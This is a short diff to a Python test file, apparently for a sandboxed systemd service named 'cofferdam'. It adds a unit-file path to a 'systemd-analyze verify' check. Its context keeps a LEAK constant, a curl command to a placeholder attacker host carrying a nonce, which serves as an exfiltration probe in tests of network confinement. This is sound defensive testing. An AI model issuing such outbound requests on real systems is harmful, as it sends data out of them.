@@ -13,6 +13,7 @@ ALLOWED = "curl -fsS -m 10 https://files.example/small.txt"
 LEAK = "curl -sS -m 1 http://" + names.ATTACKER + "/{nonce}"
 POLICY = {"allow": ["GET,HEAD https://files.example/"]}
 NET_ADMIN = 1 << 12
+UNIT = "/lib/systemd/system/cofferdam.service"
 DOCKER = """[Service]
 ExecStart=/bin/sleep infinity
 """
@@ -76,7 +77,7 @@ def test_it_is_confined(started):
 
 def test_systemd_finds_nothing_wrong(host):
     """Its own check, and its rating of the exposure is low (0: sealed, 10: everything)."""
-    checked = host.root.run("systemd-analyze", "verify", "--man=no", "cofferdam.service", check=False)
+    checked = host.root.run("systemd-analyze", "verify", "--man=no", UNIT, check=False)
     assert checked.returncode == 0 and checked.stderr == "", checked
     rated = host.root.run("systemd-analyze", "security", "--no-pager", "cofferdam.service").stdout
     assert float(re.search(r"Overall exposure level .*: ([0-9.]+)", rated)[1]) <= 2.0, rated
